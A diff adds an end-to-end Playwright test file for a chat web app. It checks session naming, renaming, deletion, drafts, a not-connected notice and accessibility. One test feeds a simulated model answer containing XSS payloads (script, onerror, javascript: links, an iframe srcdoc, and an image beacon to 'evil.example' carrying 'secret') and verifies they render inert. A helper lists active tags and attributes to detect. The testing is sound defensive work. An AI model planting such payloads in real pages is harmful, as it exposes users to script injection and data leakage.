@@ -1,0 +1,145 @@
+import { AxeBuilder } from '@axe-core/playwright'
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { type ChatPage, launchChromium, Screen } from './chromium.ts'
+
+let browser: Browser
+beforeAll(async () => {
+  browser = await launchChromium()
+})
+afterAll(async () => {
+  await browser.close()
+})
+
+/** One turn from question to answer, spoken by the test. */
+async function ask(screen: Screen, page: ChatPage, [text, answer]: readonly [string, string]): Promise<void> {
+  await page.send(text)
+  const question = await screen.conch.model.asked()
+  await question.say(answer)
+  question.finish()
+  await page.answers.getByText(answer.split('\n', 1)[0] ?? '').waitFor()
+}
+
+test('a first message opens a session that is named after it, and the composer is empty once it was accepted', async () => {
+  await using screen = await Screen.open(browser)
+  const page = await screen.person()
+  await page.composer.fill('Plan a week by the sea')
+  await page.composer.press('Enter')
+  const question = await screen.conch.model.asked()
+  await expect.poll(() => page.composer.inputValue()).toBe('')
+  await page.page.getByTestId('session-row').getByText('Plan a week by the sea').waitFor()
+  await page.page.getByTestId('session-running').waitFor()
+  question.finish()
+  await page.page.getByTestId('session-running').waitFor({ state: 'detached' })
+})
+
+test('a session can be renamed and deleted', async () => {
+  await using screen = await Screen.open(browser)
+  const page = await screen.person()
+  await ask(screen, page, ['hello', 'hi there'])
+  const row = page.page.getByTestId('session-row')
+  await row.hover()
+  await page.button('Actions for hello').click()
+  await page.page.getByRole('menuitem', { name: 'Rename' }).click()
+  const title = page.page.getByRole('textbox', { name: 'Title of the session' })
+  await title.fill('Greetings')
+  await title.press('Enter')
+  await row.getByText('Greetings').waitFor()
+
+  await row.hover()
+  await page.button('Actions for Greetings').click()
+  await page.page.getByRole('menuitem', { name: 'Delete' }).click()
+  await page.page.getByRole('alertdialog').getByRole('button', { name: 'Delete session' }).click()
+  await row.waitFor({ state: 'detached' })
+  expect((await screen.conch.ownerClient().request('GET', '/api/sessions')).json).toMatchObject({ total: 0 })
+})
+
+test('each session keeps its own draft, also across a reload', async () => {
+  await using screen = await Screen.open(browser)
+  const page = await screen.person()
+  await ask(screen, page, ['one', 'first answer'])
+  await page.composer.fill('draft of one')
+  await page.button('New session').click()
+  await ask(screen, page, ['two', 'second answer'])
+  await page.composer.fill('draft of two')
+  await page.page.getByTestId('session-row').getByText('one').click()
+  await expect.poll(() => page.composer.inputValue()).toBe('draft of one')
+  await page.page.reload()
+  await expect.poll(() => page.composer.inputValue()).toBe('draft of one')
+  await page.page.getByTestId('session-row').getByText('two').click()
+  await expect.poll(() => page.composer.inputValue()).toBe('draft of two')
+})
+
+test('D10: a browser that nobody has let in is told how to be, and sees no session', async () => {
+  await using screen = await Screen.open(browser)
+  const page = await screen.stranger()
+  await page.getByText('This browser is not connected yet').waitFor()
+  await page.getByText('npm start -- link').waitFor()
+  expect(await page.getByTestId('session-row').count()).toBe(0)
+})
+
+test('S9: what a model writes is shown, never run, and nothing is fetched for it', async () => {
+  await using screen = await Screen.open(browser)
+  const page = await screen.person()
+  const hostile = [
+    '<img src=x onerror="document.title=1"> <script>document.title=2</script>',
+    '[click](javascript:document.title=3) ![beacon](https://evil.example/?q=secret)',
+    '<iframe srcdoc="<script>parent.document.title=4</script>"></iframe> safe to read',
+  ].join('\n\n')
+  await page.send('be hostile')
+  const question = await screen.conch.model.asked()
+  await question.say(hostile)
+  await page.answers.getByText('safe to read').waitFor()
+  const streamed = await activeContent(page)
+  question.finish()
+  await expect.poll(() => page.page.getByRole('log').getAttribute('aria-busy')).toBe('false')
+  await page.page.reload()
+  await page.answers.getByText('safe to read').waitFor()
+  expect([streamed, await activeContent(page)]).toEqual([[], []])
+  expect(await page.page.title()).not.toMatch(/^[1-4]$/)
+  expect(screen.complaints).toEqual([])
+})
+
+for (const look of [
+  { name: 'light and wide', colorScheme: 'light', viewport: { width: 1280, height: 800 } },
+  { name: 'dark on a phone', colorScheme: 'dark', viewport: { width: 360, height: 740 } },
+] as const) {
+  test(`axe finds nothing, and nothing is clipped: ${look.name}`, async () => {
+    await using screen = await Screen.open(browser)
+    const page = await screen.person({ colorScheme: look.colorScheme, viewport: look.viewport })
+    await expectAccessible(page)
+    await ask(screen, page, ['hello', RICH_ANSWER])
+    await page.send('and more')
+    const question = await screen.conch.model.asked()
+    await page.send('me too')
+    await page.holderCard.waitFor()
+    await expectAccessible(page)
+    question.finish()
+    expect(screen.complaints).toEqual([])
+  })
+}
+
+const RICH_ANSWER =
+  'An answer of many parts\n\n- with `code`\n\n```ts\nconst a = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'
+
+/** What could run or fetch in the answer: elements and attributes, not the words that name them. */
+function activeContent({ page }: ChatPage): Promise<string[]> {
+  return page.getByTestId('message-assistant').evaluate((answer) => {
+    const active = ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'IMG', 'STYLE', 'LINK', 'FORM']
+    const elements = [...answer.querySelectorAll('*')]
+    const tags = elements.map(({ tagName }) => tagName).filter((tag) => active.includes(tag))
+    const attributes = elements
+      .flatMap((element) => [...element.attributes])
+      .filter(({ name, value }) => name.startsWith('on') || /^\s*(javascript|data|vbscript):/i.test(value))
+    return [...tags, ...attributes.map(({ name, value }) => `${name}=${value}`)]
+  })
+}
+
+async function expectAccessible({ page }: ChatPage): Promise<void> {
+  const { violations } = await new AxeBuilder({ page }).analyze()
+  expect(violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)])).toEqual([])
+  const overflow = await page.evaluate(
+    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+  )
+  expect(overflow).toBe(0)
+}
